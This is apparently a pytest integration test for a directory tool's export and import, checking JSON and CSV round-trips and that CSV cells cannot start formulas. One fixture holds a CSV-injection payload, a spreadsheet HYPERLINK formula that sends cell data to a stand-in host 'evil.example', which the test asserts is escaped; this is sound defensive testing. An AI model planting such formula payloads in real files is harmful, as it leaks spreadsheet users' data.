"""`directory export` writes back exactly what `directory import` reads, in both formats: an
export imported into an empty directory gives the same directory (ids, attributes, managers,
members, nested groups), and imported over the directory it came from changes nothing."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from enlist.db.database import Database
from enlist.provisioning.directory import store
from enlist.provisioning.directory.export import export_document, users_csv
from enlist.provisioning.directory.importer import import_directory, parse_directory_json, parse_users_csv
from enlist.provisioning.directory.sample import sample_directory
from tests.integration.provisioning.conftest import open_directory_db
from tests.integration.provisioning.test_directory_import import company


@pytest.fixture
async def second_db(
    database_kind: str, tmp_path: Path, request: pytest.FixtureRequest
) -> AsyncIterator[Database]:
    async with open_directory_db(database_kind, tmp_path, request, "second") as db:
        yield db


def varied() -> dict[str, Any]:
    document = company()
    document["users"].append(
        {
            "userPrincipalName": "odd@corp.example",
            "displayName": 'Quote "and", comma',
            "otherMails": ["a@b.example", "c@d.example"],
            "costCenter": "CC-7",  # not a Graph attribute: kept as given
        }
    )
    document["users"].append(  # cells a spreadsheet would run as formulas: written as text
        {
            "userPrincipalName": "hostile@corp.example",
            "displayName": '=HYPERLINK("https://evil.example/?"&A1,"open")',
            "jobTitle": "'=quoted already",
            "department": "@SUM(1+1)",
            "businessPhones": ["+1 555 0100", "-2"],
        }
    )
    return document


async def test_no_cell_of_a_csv_export_starts_a_formula(directory_db: Database) -> None:
    import csv  # noqa: PLC0415
    import io  # noqa: PLC0415

    from enlist.csv_cells import FORMULA_STARTS  # noqa: PLC0415

    async with directory_db.write() as conn:
        await import_directory(conn, parse_directory_json(json.dumps(varied())), replace=False)
        exported = users_csv((await export_document(conn))["users"])
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"open")' in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


async def snapshot(db: Database) -> dict[str, Any]:
    async with db.read() as conn:
        users = [u for page in [p async for p in store.iter_users(conn)] for u in page]
        groups = [g for page in [p async for p in store.iter_groups(conn)] for g in page]
    return {
        "users": {u.id: (dict(u.attributes), u.manager_id, u.soft_deleted) for u in users},
        "groups": {g.id: (dict(g.attributes), g.member_user_ids, g.member_group_ids) for g in groups},
    }


FORMATS = {
    "json": (json.dumps, parse_directory_json),
    "csv": (lambda document: users_csv(document["users"]), parse_users_csv),
}


@pytest.mark.parametrize("file_format", sorted(FORMATS))
@pytest.mark.parametrize("directory", ["varied", "sample"])
async def test_an_export_imports_back_to_the_same_directory(
    directory_db: Database, second_db: Database, file_format: str, directory: str
) -> None:
    write, parse = FORMATS[file_format]
    source = varied() if directory == "varied" else sample_directory(40, 6).to_json()
    if file_format == "csv":
        source = {"users": source["users"]}  # CSV holds users only
    async with directory_db.write() as conn:
        await import_directory(conn, parse_directory_json(json.dumps(source)), replace=False)
        exported = write(await export_document(conn))

    async with second_db.write() as conn:
        await import_directory(conn, parse(exported), replace=False)
    assert await snapshot(second_db) == await snapshot(directory_db)

    async with directory_db.write() as conn:
        report = await import_directory(conn, parse(exported), replace=True)
    assert report.users.updated == report.users.created == report.users.soft_deleted == 0
    assert report.groups.updated == report.groups.created == report.groups.soft_deleted == 0
    assert report.memberships_added == report.memberships_removed == 0
